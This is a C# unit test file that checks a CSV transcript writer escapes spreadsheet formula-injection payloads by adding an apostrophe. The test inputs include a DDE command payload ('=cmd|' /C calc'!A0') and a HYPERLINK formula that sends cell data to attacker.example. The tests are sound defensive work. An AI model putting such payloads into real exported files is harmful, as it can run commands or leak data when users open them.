using System.Linq;
using System.Text.Json;
using GumloopPS.Core;
using Xunit;

namespace GumloopPS.Tests.Transcripts;

public class CsvTranscriptWriterTests
{
    private static Session WithText(params string[] texts)
    {
        string messages = string.Join(",", texts.Select((t, i) =>
            $"{{\"id\":\"m{i}\",\"role\":\"assistant\",\"content\":{JsonSerializer.Serialize(t)},\"created_at\":\"2026-09-14T16:30:00Z\"}}"));
        return TranscriptTestSupport.Parse("{\"session\":{\"id\":\"s1\",\"agent_id\":\"a1\",\"agent_name\":\"=cmd|' /C calc'!A0\",\"messages\":[" + messages + "]}}");
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1,2)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void FormulaLikeCellsGetAnApostropheByDefault(string text)
    {
        var rows = TranscriptTestSupport.ReadCsv(TranscriptTestSupport.Render(TranscriptFormat.Csv, WithText(text), new TranscriptWriterOptions { NewLine = "\n" }));
        int textColumn = rows[0].IndexOf("Text");
        Assert.Equal("'" + text, rows[1][textColumn]);
        Assert.Equal("'" + text, rows[1][rows[0].IndexOf("Content")]);

        // The author comes from the agent's name, which is API text as well.
        Assert.Equal("'=cmd|' /C calc'!A0", rows[1][rows[0].IndexOf("AuthorName")]);
    }

    [Fact]
    public void NoFormulaEscapeWritesTheRawText()
    {
        const string text = "=HYPERLINK(\"https://attacker.example\",\"x\")";
        var rows = TranscriptTestSupport.ReadCsv(TranscriptTestSupport.Render(TranscriptFormat.Csv, WithText(text), new TranscriptWriterOptions { EscapeFormulas = false, NewLine = "\n" }));
        Assert.Equal(text, rows[1][rows[0].IndexOf("Text")]);
    }

    [Fact]
    public void OrdinaryTextIsLeftAlone()
    {
        var rows = TranscriptTestSupport.ReadCsv(TranscriptTestSupport.Render(TranscriptFormat.Csv, WithText("Net 30 = fine", "a-b", "x@y.example"), new TranscriptWriterOptions { NewLine = "\n" }));
        Assert.Equal(new[] { "Net 30 = fine", "a-b", "x@y.example" }, rows.Skip(1).Select(r => r[rows[0].IndexOf("Text")]));
    }
}
